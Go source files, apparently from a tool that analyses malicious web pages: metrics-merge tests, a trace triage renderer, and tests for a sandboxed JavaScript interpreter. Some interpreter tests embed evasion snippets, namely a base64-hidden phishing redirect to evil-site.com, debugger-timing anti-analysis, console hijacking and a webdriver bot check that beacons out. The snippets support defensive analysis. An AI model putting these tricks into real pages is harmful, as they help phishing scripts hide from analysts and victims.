	for i := len(shards) - 1; i >= 0; i-- {
		reversed.Merge(shards[i])
	}
	if got, want := promDump(t, reversed), promDump(t, merged); got != want {
		t.Error("merge order changed the exported snapshot")
	}

	// Associativity: pre-merging a pair then folding the rest matches too.
	paired := NewRegistry()
	pair := NewRegistry()
	pair.Merge(shards[0])
	pair.Merge(shards[1])
	paired.Merge(pair)
	paired.Merge(shards[2])
	if got, want := promDump(t, paired), promDump(t, merged); got != want {
		t.Error("pre-merged pair changed the exported snapshot")
	}
}

// droppedCount reads the merge-drop counter for one reason label.
func droppedCount(r *Registry, reason string) float64 {
	for _, p := range r.Snapshot() {
		if p.Name == MergeDroppedMetric && len(p.Labels) == 1 && p.Labels[0].Value == reason {
			return p.Value
		}
	}
	return 0
}

func TestRegistryMergeConflictsAndNil(t *testing.T) {
	r := NewRegistry()
	r.Inc("m")
	other := NewRegistry()
	other.Set("m", 5) // type conflict: counter vs gauge
	other.DefineBuckets("h", []float64{1, 2})
	other.Observe("h", 1.5)
	r.Observe("h", 1.5) // default buckets: layout conflict with other's
	r.Merge(other)

	// The conflicting series are skipped, not merged: the counter keeps
	// its value and the histogram its original bucket layout.
	for _, p := range r.Snapshot() {
		switch {
		case p.Name == "m" && (p.Type != typeCounter || p.Value != 1):
			t.Errorf("type-conflicted series mutated: %+v", p)
		case p.Name == "h" && len(p.Counts) != len(DefaultBuckets)+1:
			t.Errorf("bucket-conflicted series mutated: %+v", p)
		}
	}
	// ...and each skip is itself observed (satellite self-observability):
	// one type-conflict drop, one bucket-conflict drop.
	if got := droppedCount(r, "type-conflict"); got != 1 {
		t.Errorf("type-conflict drops = %v, want 1", got)
	}
	if got := droppedCount(r, "bucket-conflict"); got != 1 {
		t.Errorf("bucket-conflict drops = %v, want 1", got)
	}

	after := promDump(t, r)
	r.Merge(nil)
	var nilReg *Registry
	nilReg.Merge(r) // must not panic
	if promDump(t, r) != after {
		t.Error("nil merges mutated the registry")
	}
}

// TestMergeDroppedCounterAccumulates pins that repeated conflicting merges
// keep counting — the counter is a plain commutative series, visible in
// snapshots and Prometheus dumps like any other metric.
func TestMergeDroppedCounterAccumulates(t *testing.T) {
	r := NewRegistry()
	r.Inc("m")
	other := NewRegistry()
	other.Set("m", 5)
	for i := 0; i < 3; i++ {
		r.Merge(other)
	}
	if got := droppedCount(r, "type-conflict"); got != 3 {
		t.Errorf("drops after 3 conflicting merges = %v, want 3", got)
	}
	// A clean merge of the dropped counter itself folds like any counter.
	agg := NewRegistry()
	agg.Merge(r)
	agg.Merge(r)
	if got := droppedCount(agg, "type-conflict"); got != 6 {
		t.Errorf("aggregated drops = %v, want 6", got)
	}
	dump := promDump(t, agg)
	if !strings.Contains(dump, MergeDroppedMetric+`{reason="type-conflict"} 6`) {
		t.Errorf("dropped counter missing from Prometheus dump:\n%s", dump)
	}
}
