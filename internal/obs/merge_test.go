package obs

import (
	"bytes"
	"testing"
)

// promDump renders a registry for byte comparison.
func promDump(t *testing.T, r *Registry) string {
	t.Helper()
	var buf bytes.Buffer
	if err := r.WriteProm(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

// TestRegistryMergeMatchesDirect pins the Merge contract: folding
// per-worker registries together must export the same bytes as writing
// every operation into one shared registry.
func TestRegistryMergeMatchesDirect(t *testing.T) {
	ops := func(r *Registry, worker int) {
		r.Inc("requests_total", "status", "2xx")
		r.Add("requests_total", 2, "status", "4xx")
		r.Add("bytes_total", float64(100*(worker+1)))
		r.Observe("latency_ns", 2e6)
		r.Observe("latency_ns", 4e9)
		r.Set("build_info", 1, "version", "7")
	}

	direct := NewRegistry()
	shards := make([]*Registry, 3)
	for w := range shards {
		shards[w] = NewRegistry()
		ops(direct, w)
		ops(shards[w], w)
	}

	merged := NewRegistry()
	for _, s := range shards {
		merged.Merge(s)
	}
	if got, want := promDump(t, merged), promDump(t, direct); got != want {
		t.Errorf("merged registries diverge from direct writes:\n--- merged ---\n%s--- direct ---\n%s", got, want)
	}

	// Commutativity: merging the shards in reverse order exports the same
	// bytes (the gauge is set identically by every shard, per Set's rule).
	reversed := NewRegistry()
	for i := len(shards) - 1; i >= 0; i-- {
		reversed.Merge(shards[i])
	}
	if got, want := promDump(t, reversed), promDump(t, merged); got != want {
		t.Error("merge order changed the exported snapshot")
	}

	// Associativity: pre-merging a pair then folding the rest matches too.
	paired := NewRegistry()
	pair := NewRegistry()
	pair.Merge(shards[0])
	pair.Merge(shards[1])
	paired.Merge(pair)
	paired.Merge(shards[2])
	if got, want := promDump(t, paired), promDump(t, merged); got != want {
		t.Error("pre-merged pair changed the exported snapshot")
	}
}

func TestRegistryMergeConflictsAndNil(t *testing.T) {
	r := NewRegistry()
	r.Inc("m")
	other := NewRegistry()
	other.Set("m", 5) // type conflict: counter vs gauge
	other.DefineBuckets("h", []float64{1, 2})
	other.Observe("h", 1.5)
	r.Observe("h", 1.5) // default buckets: layout conflict with other's
	before := promDump(t, r)
	r.Merge(other)
	after := promDump(t, r)
	if before != after {
		t.Errorf("conflicting series mutated the registry:\n--- before ---\n%s--- after ---\n%s", before, after)
	}

	r.Merge(nil)
	var nilReg *Registry
	nilReg.Merge(r) // must not panic
	if promDump(t, r) != after {
		t.Error("nil merges mutated the registry")
	}
}
