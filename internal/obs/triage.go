package obs

import (
	"fmt"
	"sort"
	"strings"
	"time"
)

// This file renders the trace-driven triage views consumed by
// cmd/obsreport: the corpus-level stage-latency table (p50/p95 in virtual
// nanoseconds), the per-message critical path, and the indented span tree
// ("flame summary") an analyst reads to answer "why was message X marked
// cloaked and where did its 3 seconds go?". Everything is computed from the
// JSONL alone — no live pipeline state.

// StageStat summarizes one stage's latency distribution across a corpus.
type StageStat struct {
	Stage string
	Runs  int
	// P50 / P95 / Max / Total are virtual-time durations.
	P50   time.Duration
	P95   time.Duration
	Max   time.Duration
	Total time.Duration
}

// StageStats aggregates every SpanStage span across the traces, sorted by
// descending total virtual time (the triage order: where did time go).
func StageStats(traces []*Trace) []StageStat {
	byStage := map[string][]time.Duration{}
	for _, t := range traces {
		for _, s := range t.Spans() {
			if s.Kind == SpanStage {
				byStage[s.Name] = append(byStage[s.Name], s.Duration())
			}
		}
	}
	names := make([]string, 0, len(byStage))
	for name := range byStage {
		names = append(names, name)
	}
	sort.Strings(names)
	out := make([]StageStat, 0, len(names))
	for _, name := range names {
		durs := byStage[name]
		sort.Slice(durs, func(i, j int) bool { return durs[i] < durs[j] })
		st := StageStat{
			Stage: name,
			Runs:  len(durs),
			P50:   percentile(durs, 50),
			P95:   percentile(durs, 95),
			Max:   durs[len(durs)-1],
		}
		for _, d := range durs {
			st.Total += d
		}
		out = append(out, st)
	}
	sort.SliceStable(out, func(i, j int) bool { return out[i].Total > out[j].Total })
	return out
}

// percentile returns the p-th percentile of ascending-sorted durations
// (nearest-rank method, deterministic).
func percentile(sorted []time.Duration, p int) time.Duration {
	if len(sorted) == 0 {
		return 0
	}
	rank := (p*len(sorted) + 99) / 100
	if rank < 1 {
		rank = 1
	}
	if rank > len(sorted) {
		rank = len(sorted)
	}
	return sorted[rank-1]
}

// RenderStageTable renders the corpus-level stage-latency table.
func RenderStageTable(traces []*Trace) string {
	var b strings.Builder
	fmt.Fprintf(&b, "Stage latency (virtual time, %d traces)\n", len(traces))
	fmt.Fprintf(&b, "%-10s %6s %12s %12s %12s %12s\n", "stage", "runs", "p50(ns)", "p95(ns)", "max(ns)", "total")
	for _, st := range StageStats(traces) {
		fmt.Fprintf(&b, "%-10s %6d %12d %12d %12d %12s\n",
			st.Stage, st.Runs, st.P50.Nanoseconds(), st.P95.Nanoseconds(),
			st.Max.Nanoseconds(), st.Total)
	}
	return b.String()
}

// RenderOutcomes tallies the root-span outcome attributes — the corpus
// disposition as the trace recorded it.
func RenderOutcomes(traces []*Trace) string {
	counts := map[string]int{}
	for _, t := range traces {
		if root := Root(t); root != nil {
			out := root.AttrValue("outcome")
			if out == "" {
				out = "(failed)"
			}
			counts[out]++
		}
	}
	keys := make([]string, 0, len(counts))
	for k := range counts {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var b strings.Builder
	b.WriteString("Outcomes\n")
	for _, k := range keys {
		fmt.Fprintf(&b, "%-22s %6d\n", k, counts[k])
	}
	return b.String()
}

// Root returns the trace's root span (nil parent link), or nil.
func Root(t *Trace) *Span {
	for _, s := range t.Spans() {
		if s.Parent == 0 {
			return s
		}
	}
	return nil
}

// children maps parent span ID to child spans in creation order.
func children(t *Trace) map[int][]*Span {
	m := map[int][]*Span{}
	for _, s := range t.Spans() {
		if s.Parent != 0 {
			m[s.Parent] = append(m[s.Parent], s)
		}
	}
	return m
}

// CriticalPath returns the chain from the root to a leaf, descending into
// the longest child at every level — the spans that dominated the
// message's virtual wall time.
func CriticalPath(t *Trace) []*Span {
	root := Root(t)
	if root == nil {
		return nil
	}
	kids := children(t)
	path := []*Span{root}
	cur := root
	for {
		var longest *Span
		for _, c := range kids[cur.ID] {
			if longest == nil || c.Duration() > longest.Duration() {
				longest = c
			}
		}
		if longest == nil {
			return path
		}
		path = append(path, longest)
		cur = longest
	}
}

// RenderCriticalPath renders a trace's critical path as one arrowed line.
func RenderCriticalPath(t *Trace) string {
	var parts []string
	for _, s := range CriticalPath(t) {
		parts = append(parts, fmt.Sprintf("%s %q (%s)", s.Kind, s.Name, s.Duration()))
	}
	return strings.Join(parts, "\n  -> ")
}

// RenderTree renders a trace's span tree — the flame summary: each span
// indented under its parent with kind, duration, status, and attributes.
func RenderTree(t *Trace) string {
	var b strings.Builder
	kids := children(t)
	root := Root(t)
	if root == nil {
		return ""
	}
	renderSpan(&b, root, kids, 0)
	return b.String()
}

func renderSpan(b *strings.Builder, s *Span, kids map[int][]*Span, depth int) {
	fmt.Fprintf(b, "%s%-8s %-42s %12s", strings.Repeat("  ", depth), s.Kind, clip(s.Name, 42), s.Duration())
	if s.Status != StatusOK && s.Status != "" {
		fmt.Fprintf(b, "  !%s", s.Status)
	}
	if attrs := renderAttrs(s.Attrs); attrs != "" {
		fmt.Fprintf(b, "  [%s]", attrs)
	}
	b.WriteByte('\n')
	for _, c := range kids[s.ID] {
		renderSpan(b, c, kids, depth+1)
	}
}

// renderAttrs renders attributes sorted by key as k=v pairs.
func renderAttrs(attrs []Attr) string {
	if len(attrs) == 0 {
		return ""
	}
	parts := make([]string, 0, len(attrs))
	for _, a := range sortedAttrs(attrs) {
		parts = append(parts, a.Key+"="+a.Value)
	}
	return strings.Join(parts, " ")
}

// clip truncates long names with an ellipsis marker.
func clip(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n-3] + "..."
}

// FaultRecovery aggregates the resilience layer's footprint across a set of
// traces: injected faults by kind (the "fault" attribute on request spans),
// retry waits by trigger reason with their total virtual backoff (SpanRetry
// spans), breaker short-circuits (zero-length SpanRetry markers with
// reason=breaker-open), and visits the layer degraded after giving up.
type FaultRecovery struct {
	// FaultsByKind counts injected faults per kind label.
	FaultsByKind map[string]int
	// RetriesByReason counts backoff waits per retry reason.
	RetriesByReason map[string]int
	// TotalBackoff is the summed virtual duration of all retry waits.
	TotalBackoff time.Duration
	// ShortCircuits counts requests refused by an open breaker.
	ShortCircuits int
	// DegradedVisits counts visit spans carrying degraded=true.
	DegradedVisits int
}

// Empty reports whether the traces carried no resilience activity at all
// (layer disarmed, or armed but never triggered).
func (f FaultRecovery) Empty() bool {
	return len(f.FaultsByKind) == 0 && len(f.RetriesByReason) == 0 &&
		f.ShortCircuits == 0 && f.DegradedVisits == 0
}

// FaultRecoveryStats scans the traces for the fault-recovery footprint.
func FaultRecoveryStats(traces []*Trace) FaultRecovery {
	out := FaultRecovery{
		FaultsByKind:    map[string]int{},
		RetriesByReason: map[string]int{},
	}
	for _, t := range traces {
		for _, s := range t.Spans() {
			switch s.Kind {
			case SpanRequest:
				if kind := s.AttrValue("fault"); kind != "" {
					out.FaultsByKind[kind]++
				}
			case SpanRetry:
				if s.AttrValue("reason") == "breaker-open" && s.AttrValue("attempt") == "" {
					out.ShortCircuits++
					continue
				}
				out.RetriesByReason[s.AttrValue("reason")]++
				out.TotalBackoff += s.Duration()
			case SpanVisit:
				if s.AttrValue("degraded") == "true" {
					out.DegradedVisits++
				}
			}
		}
	}
	return out
}

// RenderFaultRecovery renders the fault-recovery table, or "" when the
// traces carried no resilience activity (so default reports stay unchanged).
func RenderFaultRecovery(traces []*Trace) string {
	fr := FaultRecoveryStats(traces)
	if fr.Empty() {
		return ""
	}
	var b strings.Builder
	b.WriteString("Fault recovery\n")
	for _, kind := range sortedKeys(fr.FaultsByKind) {
		fmt.Fprintf(&b, "fault injected %-12s %6d\n", kind, fr.FaultsByKind[kind])
	}
	retries := 0
	for _, reason := range sortedKeys(fr.RetriesByReason) {
		fmt.Fprintf(&b, "retry on %-18s %6d\n", reason, fr.RetriesByReason[reason])
		retries += fr.RetriesByReason[reason]
	}
	fmt.Fprintf(&b, "%-27s %6d (total backoff %s)\n", "retries", retries, fr.TotalBackoff)
	fmt.Fprintf(&b, "%-27s %6d\n", "breaker short-circuits", fr.ShortCircuits)
	fmt.Fprintf(&b, "%-27s %6d\n", "degraded visits", fr.DegradedVisits)
	return b.String()
}

// sortedKeys returns m's keys in ascending order.
func sortedKeys(m map[string]int) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

// SlowestTraces returns up to k traces by descending root-span duration,
// ties broken by ascending trace ID.
func SlowestTraces(traces []*Trace, k int) []*Trace {
	out := append([]*Trace(nil), traces...)
	sort.SliceStable(out, func(i, j int) bool {
		di, dj := Root(out[i]).Duration(), Root(out[j]).Duration()
		if di != dj {
			return di > dj
		}
		return out[i].ID() < out[j].ID()
	})
	if k < len(out) {
		out = out[:k]
	}
	return out
}
