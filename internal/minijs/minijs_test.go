package minijs

import (
	"errors"
	"math"
	"strings"
	"testing"
	"testing/quick"
)

// evalNum runs src and requires a numeric result.
func evalNum(t *testing.T, src string) float64 {
	t.Helper()
	v, err := New(0).Eval(src)
	if err != nil {
		t.Fatalf("Eval(%q): %v", src, err)
	}
	if v.Kind() != KindNumber {
		t.Fatalf("Eval(%q) = %s (kind %d), want number", src, v.ToString(), v.Kind())
	}
	return v.ToNumber()
}

func evalStr(t *testing.T, src string) string {
	t.Helper()
	v, err := New(0).Eval(src)
	if err != nil {
		t.Fatalf("Eval(%q): %v", src, err)
	}
	return v.ToString()
}

func TestArithmetic(t *testing.T) {
	tests := []struct {
		src  string
		want float64
	}{
		{"1 + 2 * 3", 7},
		{"(1 + 2) * 3", 9},
		{"10 / 4", 2.5},
		{"10 % 3", 1},
		{"2 * -3", -6},
		{"1 + 2 + 3 + 4", 10},
		{"0x10 + 1", 17},
		{"1.5e2", 150},
		{"7 & 3", 3},
		{"4 | 1", 5},
		{"5 ^ 1", 4},
		{"1 << 4", 16},
		{"-8 >> 1", -4},
		{"~0", -1},
	}
	for _, tt := range tests {
		if got := evalNum(t, tt.src); got != tt.want {
			t.Errorf("%q = %v, want %v", tt.src, got, tt.want)
		}
	}
}

func TestStringOps(t *testing.T) {
	tests := []struct {
		src  string
		want string
	}{
		{`"a" + "b"`, "ab"},
		{`"n=" + 42`, "n=42"},
		{`"HeLLo".toLowerCase()`, "hello"},
		{`"hello".toUpperCase()`, "HELLO"},
		{`"hello world".indexOf("world") + ""`, "6"},
		{`"hello".slice(1, 3)`, "el"},
		{`"hello".slice(-3)`, "llo"},
		{`"hello".substring(3, 1)`, "el"},
		{`"a,b,c".split(",").join("|")`, "a|b|c"},
		{`"  pad  ".trim()`, "pad"},
		{`"abc".charAt(1)`, "b"},
		{`"xyx".replace("x", "o")`, "oyx"},
		{`"xyx".replaceAll("x", "o")`, "oyo"},
		{`"ab".repeat(3)`, "ababab"},
		{`"test".length + ""`, "4"},
		{`"evil".includes("vi") + ""`, "true"},
		{`"https://x".startsWith("https") + ""`, "true"},
	}
	for _, tt := range tests {
		if got := evalStr(t, tt.src); got != tt.want {
			t.Errorf("%q = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestVariablesAndScope(t *testing.T) {
	src := `
	var x = 1;
	let y = 2;
	const z = 3;
	{
		let y = 20;
		x = x + y;
	}
	x + y + z
	`
	if got := evalNum(t, src); got != 26 {
		t.Errorf("scope result = %v, want 26", got)
	}
}

func TestFunctionsAndClosures(t *testing.T) {
	src := `
	function makeCounter() {
		var n = 0;
		return function() { n = n + 1; return n; };
	}
	var c1 = makeCounter();
	var c2 = makeCounter();
	c1(); c1(); c2();
	c1() * 10 + c2()
	`
	if got := evalNum(t, src); got != 32 {
		t.Errorf("closures = %v, want 32", got)
	}
}

func TestArrowFunctions(t *testing.T) {
	src := `
	var add = (a, b) => a + b;
	var double = x => x * 2;
	var block = (x) => { return x + 1; };
	add(1, 2) + double(10) + block(4)
	`
	if got := evalNum(t, src); got != 28 {
		t.Errorf("arrows = %v, want 28", got)
	}
}

func TestRecursion(t *testing.T) {
	src := `
	function fib(n) { if (n < 2) return n; return fib(n-1) + fib(n-2); }
	fib(12)
	`
	if got := evalNum(t, src); got != 144 {
		t.Errorf("fib(12) = %v, want 144", got)
	}
}

func TestControlFlow(t *testing.T) {
	src := `
	var total = 0;
	for (var i = 0; i < 10; i++) {
		if (i % 2 === 0) continue;
		if (i > 7) break;
		total += i;
	}
	var j = 0;
	while (j < 5) { j++; }
	var k = 0;
	do { k++; } while (k < 3);
	total * 100 + j * 10 + k
	`
	// odds <= 7: 1+3+5+7 = 16
	if got := evalNum(t, src); got != 1653 {
		t.Errorf("control flow = %v, want 1653", got)
	}
}

func TestForInAndForOf(t *testing.T) {
	src := `
	var obj = {a: 1, b: 2, c: 3};
	var keys = "";
	for (var k in obj) { keys += k; }
	var sum = 0;
	for (var v of [10, 20, 30]) { sum += v; }
	keys + ":" + sum
	`
	if got := evalStr(t, src); got != "abc:60" {
		t.Errorf("for-in/of = %q", got)
	}
}

func TestObjectsAndArrays(t *testing.T) {
	src := `
	var o = {name: "kit", nested: {deep: 42}};
	o.extra = [1, 2, 3];
	o.extra.push(4);
	o.nested.deep + o.extra.length + o.extra[3]
	`
	if got := evalNum(t, src); got != 50 {
		t.Errorf("objects = %v, want 50", got)
	}
}

func TestArrayMethods(t *testing.T) {
	tests := []struct {
		src  string
		want string
	}{
		{`[3,1,2].indexOf(2) + ""`, "2"},
		{`[1,2,3].includes(2) + ""`, "true"},
		{`[1,2,3,4].slice(1,3).join("-")`, "2-3"},
		{`[1,2].concat([3,4]).join("")`, "1234"},
		{`[1,2,3].map(function(x){return x*x;}).join(",")`, "1,4,9"},
		{`[1,2,3,4].filter(x => x % 2 === 0).join(",")`, "2,4"},
		{`[1,2,3].reverse().join("")`, "321"},
		{`var a=[1]; a.pop() + a.length`, "1"},
		{`var a=[5,6]; a.shift() + "," + a.join("")`, "5,6"},
	}
	for _, tt := range tests {
		if got := evalStr(t, tt.src); got != tt.want {
			t.Errorf("%q = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestEqualityAndTypeof(t *testing.T) {
	tests := []struct {
		src  string
		want string
	}{
		{`(1 == "1") + ""`, "true"},
		{`(1 === "1") + ""`, "false"},
		{`(null == undefined) + ""`, "true"},
		{`(null === undefined) + ""`, "false"},
		{`typeof 1`, "number"},
		{`typeof "x"`, "string"},
		{`typeof true`, "boolean"},
		{`typeof undefined`, "undefined"},
		{`typeof null`, "object"},
		{`typeof {}`, "object"},
		{`typeof function(){}`, "function"},
		{`typeof neverDeclared`, "undefined"},
	}
	for _, tt := range tests {
		if got := evalStr(t, tt.src); got != tt.want {
			t.Errorf("%q = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestTernaryAndLogical(t *testing.T) {
	tests := []struct {
		src  string
		want string
	}{
		{`1 ? "yes" : "no"`, "yes"},
		{`0 ? "yes" : "no"`, "no"},
		{`"" || "fallback"`, "fallback"},
		{`"set" || "fallback"`, "set"},
		{`1 && 2 + ""`, "2"},
		{`0 && neverEvaluated()`, "0"},
		{`null ?? "default"`, "default"},
		{`"" ?? "default"`, ""},
	}
	for _, tt := range tests {
		if got := evalStr(t, tt.src); got != tt.want {
			t.Errorf("%q = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestTryCatchFinallyThrow(t *testing.T) {
	src := `
	var log = "";
	try {
		log += "t";
		throw new Error("boom");
	} catch (e) {
		log += "c:" + e.message;
	} finally {
		log += ":f";
	}
	log
	`
	if got := evalStr(t, src); got != "tc:boom:f" {
		t.Errorf("try/catch = %q", got)
	}
}

func TestUncaughtThrowSurfacesAsError(t *testing.T) {
	_, err := New(0).Eval(`throw new TypeError("nope");`)
	if err == nil || !strings.Contains(err.Error(), "nope") {
		t.Errorf("uncaught throw err = %v", err)
	}
}

func TestRuntimeTypeErrorsCatchable(t *testing.T) {
	src := `
	var caught = "";
	try { undefinedVariable.property; } catch (e) { caught = e.name; }
	caught
	`
	if got := evalStr(t, src); got != "ReferenceError" {
		t.Errorf("caught = %q, want ReferenceError", got)
	}
	src = `
	var caught = "";
	try { null.x; } catch (e) { caught = e.name; }
	caught
	`
	if got := evalStr(t, src); got != "TypeError" {
		t.Errorf("caught = %q, want TypeError", got)
	}
}

func TestFuelExhaustionOnInfiniteLoop(t *testing.T) {
	ip := New(50_000)
	_, err := ip.Eval(`while (true) { var x = 1; }`)
	if !errors.Is(err, ErrFuelExhausted) {
		t.Fatalf("err = %v, want ErrFuelExhausted", err)
	}
}

func TestFuelExhaustionNotCatchableByScript(t *testing.T) {
	// Hostile scripts must not be able to swallow the termination signal.
	ip := New(50_000)
	_, err := ip.Eval(`
	try {
		while (true) { var x = 1; }
	} catch (e) {
		"swallowed";
	}
	`)
	if !errors.Is(err, ErrFuelExhausted) {
		t.Fatalf("err = %v, want ErrFuelExhausted despite try/catch", err)
	}
}

func TestDebuggerHook(t *testing.T) {
	ip := New(0)
	var hits int
	ip.OnDebugger = func() { hits++ }
	if _, err := ip.Eval(`debugger; debugger;`); err != nil {
		t.Fatal(err)
	}
	if hits != 2 {
		t.Errorf("debugger hook hits = %d, want 2", hits)
	}
}

func TestAntiDebugTimerPattern(t *testing.T) {
	// The corpus pattern: record time, hit debugger, record time again,
	// and infer an attached debugger from the delta. With the virtual
	// clock the delta is 0 — NotABot-style analysis stays invisible.
	ip := New(0)
	src := `
	var t1 = Date.now();
	debugger;
	var t2 = Date.now();
	t2 - t1
	`
	v, err := ip.Eval(src)
	if err != nil {
		t.Fatal(err)
	}
	if v.ToNumber() != 0 {
		t.Errorf("debugger time delta = %v, want 0", v.ToNumber())
	}
}

func TestAtobObfuscationPattern(t *testing.T) {
	// Base64-obfuscated redirect payload, as seen on 167 pages in the
	// corpus (hue-rotate injector) and the victim-check scripts.
	src := `atob("aHR0cHM6Ly9ldmlsLXNpdGUuY29tL2xvZ2lu")`
	if got := evalStr(t, src); got != "https://evil-site.com/login" {
		t.Errorf("atob = %q", got)
	}
	if got := evalStr(t, `btoa("abc")`); got != "YWJj" {
		t.Errorf("btoa = %q", got)
	}
}

func TestAtobInvalidThrowsCatchable(t *testing.T) {
	src := `
	var r = "";
	try { atob("!!!"); } catch (e) { r = e.name; }
	r
	`
	if got := evalStr(t, src); got != "InvalidCharacterError" {
		t.Errorf("caught = %q", got)
	}
}

func TestConsoleHijackPattern(t *testing.T) {
	// Scripts in the corpus reassign console.log to block analysis. The
	// interpreter must let the reassignment take effect.
	ip := New(0)
	var logged []string
	console := NewObject()
	console.Set("log", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		for _, a := range args {
			logged = append(logged, a.ToString())
		}
		return Undefined, nil
	}))
	ip.SetGlobal("console", ObjectValue(console))
	src := `
	console.log("before");
	console.log = function() { return undefined; };
	console.log("after");
	`
	if _, err := ip.Eval(src); err != nil {
		t.Fatal(err)
	}
	if len(logged) != 1 || logged[0] != "before" {
		t.Errorf("logged = %v, want only 'before' (hijack must stick)", logged)
	}
}

func TestRegExpEmailValidation(t *testing.T) {
	// The victim-tracking scripts validate email addresses with a regex
	// before phoning home.
	src := `
	var re = new RegExp("^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$", "i");
	var a = re.test("Victim.Name@Corp.example");
	var b = re.test("not an email");
	(a ? "1" : "0") + (b ? "1" : "0")
	`
	if got := evalStr(t, src); got != "10" {
		t.Errorf("regex validation = %q, want \"10\"", got)
	}
}

func TestJSONRoundTrip(t *testing.T) {
	src := `
	var payload = {ip: "203.0.113.9", country: "FR", ua: "Mozilla/5.0", n: 3, ok: true, tags: ["a", "b"]};
	var s = JSON.stringify(payload);
	var back = JSON.parse(s);
	back.ip + "|" + back.country + "|" + back.n + "|" + back.tags[1]
	`
	if got := evalStr(t, src); got != "203.0.113.9|FR|3|b" {
		t.Errorf("JSON round trip = %q", got)
	}
}

func TestJSONParseInvalid(t *testing.T) {
	src := `
	var r = "";
	try { JSON.parse("{bad json"); } catch (e) { r = e.name; }
	r
	`
	if got := evalStr(t, src); got != "SyntaxError" {
		t.Errorf("JSON.parse error = %q", got)
	}
}

func TestMathBuiltins(t *testing.T) {
	tests := []struct {
		src  string
		want float64
	}{
		{"Math.abs(-5)", 5},
		{"Math.floor(2.9)", 2},
		{"Math.ceil(2.1)", 3},
		{"Math.round(2.5)", 3},
		{"Math.max(1, 9, 4)", 9},
		{"Math.min(1, 9, 4)", 1},
		{"Math.pow(2, 10)", 1024},
		{"Math.sqrt(81)", 9},
	}
	for _, tt := range tests {
		if got := evalNum(t, tt.src); got != tt.want {
			t.Errorf("%q = %v, want %v", tt.src, got, tt.want)
		}
	}
	if r := evalNum(t, "Math.random()"); r != 0.5 {
		t.Errorf("default Math.random = %v, want deterministic 0.5", r)
	}
}

func TestParseIntAndFloat(t *testing.T) {
	tests := []struct {
		src  string
		want float64
	}{
		{`parseInt("42")`, 42},
		{`parseInt("42abc")`, 42},
		{`parseInt("ff", 16)`, 255},
		{`parseInt("-7")`, -7},
		{`parseFloat("3.14xyz")`, 3.14},
		{`parseFloat("-2.5")`, -2.5},
	}
	for _, tt := range tests {
		if got := evalNum(t, tt.src); got != tt.want {
			t.Errorf("%q = %v, want %v", tt.src, got, tt.want)
		}
	}
	if got := evalStr(t, `isNaN(parseInt("xyz")) + ""`); got != "true" {
		t.Errorf("parseInt(xyz) should be NaN")
	}
}

func TestHostInterop(t *testing.T) {
	ip := New(0)
	var captured string
	ip.SetGlobal("sendBeacon", NewHostFunc(func(_ *Interp, _ Value, args []Value) (Value, error) {
		if len(args) > 0 {
			captured = args[0].ToString()
		}
		return True, nil
	}))
	nav := NewObject()
	nav.Set("userAgent", String("Mozilla/5.0 (X11; Linux x86_64) Chrome/120"))
	nav.Set("webdriver", False)
	ip.SetGlobal("navigator", ObjectValue(nav))
	src := `
	if (navigator.webdriver === false && navigator.userAgent.indexOf("Chrome") >= 0) {
		sendBeacon("human:" + navigator.userAgent.length);
	}
	`
	if _, err := ip.Eval(src); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(captured, "human:") {
		t.Errorf("captured = %q", captured)
	}
}

func TestCallFunctionFromGo(t *testing.T) {
	ip := New(0)
	if _, err := ip.Eval(`function onEvent(x) { return x * 2 + 1; }`); err != nil {
		t.Fatal(err)
	}
	fn, ok := ip.Global("onEvent")
	if !ok {
		t.Fatal("onEvent not defined")
	}
	v, err := ip.CallFunction(fn, Undefined, []Value{Number(20)})
	if err != nil {
		t.Fatal(err)
	}
	if v.ToNumber() != 41 {
		t.Errorf("CallFunction = %v, want 41", v.ToNumber())
	}
}

func TestThisBindingInMethods(t *testing.T) {
	src := `
	var counter = {
		n: 0,
		bump: function() { this.n = this.n + 1; return this.n; }
	};
	counter.bump();
	counter.bump();
	counter.n
	`
	if got := evalNum(t, src); got != 2 {
		t.Errorf("this binding = %v, want 2", got)
	}
}

func TestNewConstructor(t *testing.T) {
	src := `
	function Point(x, y) { this.x = x; this.y = y; }
	var p = new Point(3, 4);
	Math.sqrt(p.x * p.x + p.y * p.y)
	`
	if got := evalNum(t, src); got != 5 {
		t.Errorf("new = %v, want 5", got)
	}
}

func TestUpdateAndCompoundAssign(t *testing.T) {
	src := `
	var i = 5;
	var a = i++;
	var b = ++i;
	var c = i--;
	i += 10;
	i *= 2;
	"" + a + b + c + ":" + i
	`
	if got := evalStr(t, src); got != "577:32" {
		t.Errorf("update ops = %q, want 577:32", got)
	}
}

func TestDeleteOperator(t *testing.T) {
	src := `
	var o = {a: 1, b: 2};
	delete o.a;
	("a" in o ? "y" : "n") + ("b" in o ? "y" : "n")
	`
	if got := evalStr(t, src); got != "ny" {
		t.Errorf("delete = %q, want ny", got)
	}
}

func TestSyntaxErrors(t *testing.T) {
	bad := []string{
		`var = 5;`,
		`function () {}`,
		`if (true {`,
		`"unterminated`,
		`1 +`,
		`{a: }`,
	}
	for _, src := range bad {
		if _, err := Parse(src); err == nil {
			t.Errorf("Parse(%q) should fail", src)
		}
	}
}

func TestNumberFormatting(t *testing.T) {
	tests := []struct {
		src  string
		want string
	}{
		{`"" + 42`, "42"},
		{`"" + 2.5`, "2.5"},
		{`"" + (0.1 + 0.2)`, "0.30000000000000004"},
		{`"" + (1/0)`, "Infinity"},
		{`"" + (0/0)`, "NaN"},
		{`(123.456).toFixed(1)`, "123.5"},
		{`(255).toString(16)`, "ff"},
	}
	for _, tt := range tests {
		if got := evalStr(t, tt.src); got != tt.want {
			t.Errorf("%q = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestArithmeticCommutativityProperty(t *testing.T) {
	ip := New(0)
	f := func(a, b int16) bool {
		sa := Number(float64(a)).ToString()
		sb := Number(float64(b)).ToString()
		v1, err1 := ip.Eval("(" + sa + ") + (" + sb + ")")
